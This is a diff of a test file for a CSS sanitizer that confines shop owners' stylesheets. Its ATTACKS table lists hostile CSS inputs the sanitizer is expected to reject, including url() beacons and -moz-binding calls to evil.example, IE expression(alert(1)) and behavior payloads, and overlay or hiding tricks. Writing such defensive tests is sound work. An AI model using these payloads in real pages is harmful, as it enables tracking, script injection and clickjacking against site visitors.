@@ -25,7 +25,7 @@ footer { background-image: url(${PICTURE}); border-radius: 8px; box-shadow: 0 1p
   expect(guarded).toContain("--shop-glow:#ffdd00");
   expect(guarded).toContain("@media (width<=768px){h1{padding:4px 8px;");
   expect(guarded).toContain(`url(${PICTURE})`);
-  expect(ownerLayer(guarded)).toBe(`@layer owner{@scope (.shop) to ([data-guarded], dialog){${guarded}}}`);
+  expect(ownerLayer(guarded)).toContain(`@layer owner{@scope (.shop) to ([data-guarded], [data-order-bar], dialog){${guarded}}}[data-guarded]`);
   expect([guardCss(""), ownerLayer("")]).toEqual(["", ""]);
   // A guarded sheet passes again, unchanged.
   expect(guardCss(guarded)).toBe(guarded);
@@ -40,7 +40,7 @@ const ATTACKS = {
   "leaves its layer": "@layer theme { h1 { color: red } }",
   "leaves its scope": "@scope (body) { h1 { color: red } }",
   "registers a variable": "@property --accent { syntax: '<color>'; inherits: true; initial-value: red }",
-  "animates": "@keyframes x { to { color: red } }",
+  animates: "@keyframes x { to { color: red } }",
   "loads a picture": "h1 { background: url(https://evil.example/p.gif) }",
   "loads a picture without a scheme": "h1 { background-image: url(//evil.example/p.gif) }",
   "loads a picture in quotes": "h1 { background-image: url('https://evil.example/p.gif') }",
@@ -57,7 +57,7 @@ const ATTACKS = {
   "covers by a negative margin": "h1 { margin-top: -200px }",
   "covers by a negative margin in a calculation": "h1 { margin: calc(-1 * 200px) }",
   "comes to the front": "h1 { z-index: 9999 }",
-  "hides": "h1 { display: none }",
+  hides: "h1 { display: none }",
   "hides by transparency": "h1 { opacity: 0 }",
   "hides by a mask": "h1 { mask-image: linear-gradient(red, red) }",
   "hides by a filter": "h1 { filter: opacity(0) }",
@@ -65,7 +65,7 @@ const ATTACKS = {
   "runs an expression": "h1 { width: expression(alert(1)) }",
   "runs an expression in capitals": "h1 { WIDTH: EXPRESSION(alert(1)) }",
   "runs a behavior": "h1 { behavior: url(x.htc) }",
-  "binds": "h1 { -moz-binding: url(https://evil.example/x.xml#x) }",
+  binds: "h1 { -moz-binding: url(https://evil.example/x.xml#x) }",
   "reads an attribute": "h1 { color: attr(data-x) }",
   "reads the device": "h1 { padding: env(safe-area-inset-top) }",
   "sets a color of the design": ":root { --accent: #ffffff }",
